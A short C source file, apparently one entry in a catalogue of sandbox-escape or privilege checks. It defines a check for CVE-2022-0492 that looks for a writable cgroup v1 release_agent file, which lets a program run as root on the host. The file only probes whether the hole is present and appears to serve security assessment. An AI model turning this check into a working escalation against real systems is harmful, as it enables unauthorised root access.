/* The program that the kernel runs, as root, when a control group is empty. */
#include "../attack.h"

#include <fcntl.h>
#include <glob.h>

ATTACK(KERNEL, "privileges",
       .gain = "a program of its own run by the kernel, as root, when a control group is empty",
       .source = "CVE-2022-0492", .works = SOME_KERNELS, .needs = "control groups v1")
{
	glob_t g = {0};
	long r = -1;

	errno = ENOENT;
	if (glob("/sys/fs/cgroup/*/release_agent", 0, NULL, &g) == 0)
		for (size_t i = 0; r < 0 && i < g.gl_pathc; i++)
			r = open(g.gl_pathv[i], O_WRONLY | O_CLOEXEC);
	return r;
}
